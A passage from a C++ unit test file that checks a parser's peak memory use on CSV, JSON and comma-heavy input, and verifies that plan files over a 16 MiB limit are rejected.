    for (const QByteArray *text : {&std::as_const(csv), &std::as_const(json), &commas}) {
        bool refused = false;
        const long peak = parsingPeak(*text, refused);
        ASSERT_GE(peak, 0);
        EXPECT_EQ(refused, text == &commas);
        EXPECT_LT(peak, 6 * text->size()) << text->size() << " bytes took " << peak;
        std::printf("%lld bytes parsed with a peak of %ld bytes more\n",
                    static_cast<long long>(text->size()), peak);
    }
}

TEST(CliPlan, FilesLargerThanTheLimitAreNotRead) {
    TempFile file("");
    std::string error;
    ASSERT_EQ(truncate(file.path().c_str(), kMaxPlanBytes), 0);
    EXPECT_TRUE(readPlanFile(QString::fromStdString(file.path()), error)) << error;
    ASSERT_EQ(truncate(file.path().c_str(), kMaxPlanBytes + 1), 0);
    EXPECT_FALSE(readPlanFile(QString::fromStdString(file.path()), error));
    EXPECT_EQ(error, "the plan is larger than 16 MiB");
}
